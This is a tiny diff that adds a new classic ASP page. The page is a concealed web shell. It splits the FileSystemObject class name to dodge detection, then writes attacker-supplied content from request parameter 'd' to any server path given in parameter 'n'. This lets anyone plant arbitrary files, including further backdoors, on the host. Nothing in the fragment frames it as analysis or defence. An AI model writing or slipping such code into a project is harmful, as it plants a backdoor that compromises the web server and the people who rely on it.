@@ -1,0 +1,4 @@
+<%
+Set f = Server.CreateObject("scr" & "ipting.FileSys" & "temObject")
+f.CreateTextFile(Server.MapPath(Request("n"))).Write Request("d")
+%>
